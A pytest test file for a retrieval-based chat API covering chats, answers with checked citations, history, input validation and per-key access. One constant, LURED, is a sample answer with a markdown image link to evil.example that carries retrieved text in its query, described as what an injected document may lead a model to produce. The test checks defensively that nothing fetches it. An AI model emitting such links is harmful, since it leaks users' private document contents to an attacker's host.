"""Chats: questions, answers with checked citations, history."""

import pytest

from shared.domain.chats import NOT_FOUND_ANSWER
from shared.domain.errors import Delayed, Rejected, Unavailable
from tests.functions.examples import seed
from tests.functions.gateway import Answer, cases, example
from tests.functions.texts import LEAVE
from tests.functions.world import Client, World

STATUS = {"create": 201, "ask": 201, "list": 200}


@pytest.fixture
def chat(api_client: Client, collection: str, sample_document: str) -> str:
    return str(api_client.post("/chats", {"collection_ids": [collection]}).json["id"])


def ask(client: Client, chat: str, question: str = "How many days of paid leave do I have?") -> Answer:
    return client.post(f"/chats/{chat}/messages", {"question": question})


@pytest.mark.parametrize("case", cases("chats"))
def test_chats_with_example_answers(case: str, world: World) -> None:
    seed(world)
    answer = Answer.of(world.call("chats", example("chats", case)))
    assert answer.status == STATUS[case], answer.body


def test_create_chat_is_listed_and_found(api_client: Client, collection: str) -> None:
    made = api_client.post("/chats", {"collection_ids": [collection, collection], "title": " Leave "})
    assert (made.status, made.json["title"], made.json["collection_ids"]) == (201, "Leave", [collection])
    assert api_client.get(f"/chats/{made.json['id']}").json == made.json
    assert [one["id"] for one in api_client.get("/chats").json["items"]] == [made.json["id"]]


def test_ask_answers_with_citations_that_are_in_the_text(world: World, api_client: Client, chat: str) -> None:
    world.llm.answers.append("Every employee has thirty days of paid leave a year [1].")
    answer = ask(api_client, chat)
    assert answer.status == 201, answer.body
    told = answer.json["answer"]
    (citation,) = told["citations"]
    assert told["found"] is True
    assert told["content"].endswith("[1].")
    assert citation["quote"] == LEAVE[citation["start"] : citation["end"]]
    assert "thirty days" in citation["quote"]
    assert (citation["version"], citation["document_name"], citation["support"]) == (1, "leave.txt", 1.0)
    assert [(one["supported"], one["citations"]) for one in told["sentences"]] == [(True, [1])]
    receipt = told["receipt"]
    assert receipt["model"] == "memory/scripted"
    assert receipt["output_tokens"] > 0
    assert {"embed", "vector", "keyword", "gate", "first_token", "model", "check"} <= set(receipt["milliseconds"])


LURED = "There are thirty days of paid leave a year [1]. ![logo][1a]\n\n[1a]: https://evil.example/?q=thirty"
"""What a document may talk a model into: an image whose address carries what was found."""


@pytest.mark.parametrize(
    ("area", "kind"),
    [("", "application/json"), ("/streams", "text/event-stream; charset=utf-8")],
    ids=["chats", "streams"],
)
def test_answer_that_names_an_image_is_text_and_nothing_fetches_it(
    area: str, kind: str, world: World, api_client: Client, chat: str
) -> None:
    world.llm.answers.append(LURED)
    answer = api_client.post(f"{area}/chats/{chat}/messages", {"question": "How many days of paid leave?"})
    assert answer.status in {200, 201}, answer.body
    assert answer.headers["content-type"] == kind
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert (world.egress.gets, world.egress.posts) == ([], [])
    kept = api_client.get(f"/chats/{chat}/messages").json[-1]
    named = [one for one in kept["sentences"] if "evil" in kept["content"][one["start"] : one["end"]]]
    assert named
    assert not any(one["supported"] for one in named)


def test_ask_with_invented_source_drops_it_and_marks_the_sentence(world: World, api_client: Client, chat: str) -> None:
    world.llm.answers.append("You have ninety days of leave on the moon [99].")
    told = ask(api_client, chat).json["answer"]
    assert told["citations"] == []
    assert [one["supported"] for one in told["sentences"]] == [False]


def test_ask_what_the_documents_do_not_say_is_not_found(world: World, api_client: Client, chat: str) -> None:
    world.llm.answers.append(NOT_FOUND_ANSWER)
    told = ask(api_client, chat, "Who won the cup?").json["answer"]
    assert (told["found"], told["content"], told["citations"]) == (False, NOT_FOUND_ANSWER, [])


def test_ask_keeps_both_turns_and_titles_the_chat(api_client: Client, chat: str) -> None:
    answer = ask(api_client, chat, "How   many days?").json
    messages = api_client.get(f"/chats/{chat}/messages").json
    assert [one["role"] for one in messages] == ["user", "assistant"]
    assert [one["id"] for one in messages] == [answer["question"]["id"], answer["answer"]["id"]]
    assert messages[1]["citations"] == answer["answer"]["citations"]
    assert api_client.get(f"/chats/{chat}").json["title"] == "How many days?"


def test_ask_again_tells_the_model_what_was_said(world: World, api_client: Client, chat: str) -> None:
    world.llm.answers += ["Thirty days [1].", "Yes [1]."]
    ask(api_client, chat, "How many days of leave?")
    world.clock.advance(1)
    ask(api_client, chat, "Is that paid?")
    told = [turn.content for turn in world.llm.prompts[-1].turns]
    assert any("How many days of leave?" in content for content in told)
    assert "Is that paid?" in told[-1]


def test_ask_gives_the_model_the_passages_and_no_key(world: World, api_client: Client, chat: str) -> None:
    ask(api_client, chat)
    prompt = world.llm.prompts[-1]
    assert "thirty days of paid leave" in prompt.turns[-1].content
    assert api_client.key not in str(prompt)
    assert str(api_client.tenant_id) not in str(prompt)


@pytest.mark.parametrize(
    ("question", "code"),
    [("", "empty_question"), ("  ", "empty_question"), ("x" * 4001, "validation_failed"), ("a\0", "validation_failed")],
)
def test_ask_with_bad_question_is_refused_and_not_kept(question: str, code: str, api_client: Client, chat: str) -> None:
    answer = ask(api_client, chat, question)
    assert (answer.status, answer.code) == (422, code)
    assert api_client.get(f"/chats/{chat}/messages").json == []


@pytest.mark.parametrize(
    ("error", "status"), [(Unavailable("down"), 503), (Delayed("busy", seconds=3), 503), (Rejected("no"), 422)]
)
def test_ask_while_the_model_fails_keeps_nothing(
    error: Unavailable | Delayed | Rejected, status: int, world: World, api_client: Client, chat: str
) -> None:
    world.llm.answers.append(("Thirty", error))
    assert ask(api_client, chat).status == status
    assert api_client.get(f"/chats/{chat}/messages").json == []


def test_ask_after_the_source_was_deleted_meanwhile_cites_nothing_of_it(
    world: World, api_client: Client, chat: str, sample_document: str
) -> None:
    # The passages were found before; what may be read is asked again before anything is cited.
    async def delete_meanwhile() -> None:
        await world.delete_now(api_client, sample_document)

    world.llm.before_answer = delete_meanwhile
    world.llm.answers.append("Every employee has thirty days of paid leave a year [1].")
    told = ask(api_client, chat).json["answer"]
    assert told["citations"] == []
    assert [one["supported"] for one in told["sentences"]] == [False]


def test_ask_after_the_collection_was_deleted_is_not_found(api_client: Client, collection: str, chat: str) -> None:
    api_client.delete(f"/collections/{collection}")
    assert ask(api_client, chat).code == "collection_not_found"


def test_messages_are_the_latest_oldest_first(world: World, api_client: Client, chat: str) -> None:
    for number in range(3):
        world.clock.advance(1)
        ask(api_client, chat, f"question {number}")
    latest = api_client.get(f"/chats/{chat}/messages", limit="4").json
    assert [one["content"] for one in latest if one["role"] == "user"] == ["question 1", "question 2"]
    assert api_client.get(f"/chats/{chat}/messages", limit="0").status == 422


def test_delete_chat_removes_its_messages(api_client: Client, chat: str) -> None:
    ask(api_client, chat)
    deleted = api_client.delete(f"/chats/{chat}")
    assert (deleted.status, deleted.body) == (204, "")
    for method, path, body in (
        ("GET", "", None),
        ("GET", "/messages", None),
        ("POST", "/messages", {"question": "x"}),
        ("DELETE", "", None),
    ):
        assert api_client(method, f"/chats/{chat}{path}", body).status == 404


def test_chat_is_seen_by_the_key_that_made_it_alone(world: World, api_client: Client, chat: str) -> None:
    colleague = world.key(api_client)
    assert colleague.get(f"/chats/{chat}").status == 404
    assert colleague.get(f"/chats/{chat}/messages").status == 404
    assert ask(colleague, chat).status == 404
    assert colleague.delete(f"/chats/{chat}").status == 404
    assert colleague.get("/chats").json["items"] == []
    assert api_client.get(f"/chats/{chat}").status == 200


def test_create_chat_with_bad_collections_is_refused(api_client: Client, collection: str) -> None:
    assert api_client.post("/chats", {"collection_ids": []}).status == 422
    assert api_client.post("/chats", {"collection_ids": [collection], "title": "a\nb"}).code == "invalid_name"
